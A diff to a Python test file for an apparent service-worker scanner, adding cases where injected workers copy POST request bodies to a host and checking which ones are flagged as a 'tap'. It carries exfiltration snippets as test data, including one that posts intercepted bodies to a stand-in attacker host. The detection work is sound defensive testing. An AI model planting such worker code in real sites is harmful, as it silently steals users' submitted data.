@@ -41,6 +41,24 @@ WORKERS = [
         f"if(q.method==='POST')q.clone().text().then(b=>fetch('{EVIL}',{{method:'POST',body:b}}))}})"
     ),
 ]
+COPY = "q.clone().text().then(b=>fetch('https://api.vendor.example/q',{method:'POST',body:b}))"
+HEARD = "self.addEventListener('fetch',e=>{const q=e.request,u=new URL(q.url);"
+WANTED = [
+    "u.hostname.endsWith('vendor.example')",
+    "u.host==='api.vendor.example'",
+    "q.url.startsWith('https://api.vendor.example/')",
+    "q.url.indexOf('vendor.example')>-1",
+    "q.url.indexOf('vendor.example')>=0",
+    "/vendor\\.example/.test(q.url)",
+]
+UNWANTED = [
+    "u.hostname!=='api.vendor.example'",
+    "!q.url.startsWith('https://api.vendor.example/')",
+    "!u.host.includes('vendor.example')",
+    "q.url.indexOf('vendor.example')<0",
+    "q.url.indexOf('vendor.example')===-1",
+    "!/vendor\\.example/.test(q.url)",
+]
 HONEST_WORKERS = [
     # Answers are kept for when there is no connection.
     (
@@ -322,3 +340,21 @@ def test_frames_unseen_under_the_pointer(source: str) -> None:
 @pytest.mark.parametrize("source", HONEST_UNDER)
 def test_frames_and_what_follows_the_pointer(source: str) -> None:
     assert in_file(source).outcome is Outcome.PASS
+
+
+@pytest.mark.parametrize("test", WANTED)
+def test_a_worker_that_sends_again_what_its_vendor_is_posted(test: str) -> None:
+    source = f"{HEARD}if(q.method==='POST'&&{test}){{{COPY}}}}})"
+    assert in_file(source, kind="worker").outcome is Outcome.PASS
+    # Whoever passes by that host copies all else.
+    source = f"{HEARD}if(q.method!=='POST'||{test})return;{COPY}}})"
+    assert in_file(source, kind="worker").message == "tap"
+
+
+@pytest.mark.parametrize("test", UNWANTED)
+def test_a_worker_that_copies_all_that_is_not_posted_to_its_own_host(test: str) -> None:
+    for act in (f"{{{COPY}}}", f"{{return {COPY}}}"):
+        source = f"{HEARD}if(q.method==='POST'&&{test}){act}}})"
+        assert in_file(source, kind="worker").message == "tap"
+    source = f"{HEARD}if(q.method!=='POST'||{test})return;{COPY}}})"
+    assert in_file(source, kind="worker").outcome is Outcome.PASS
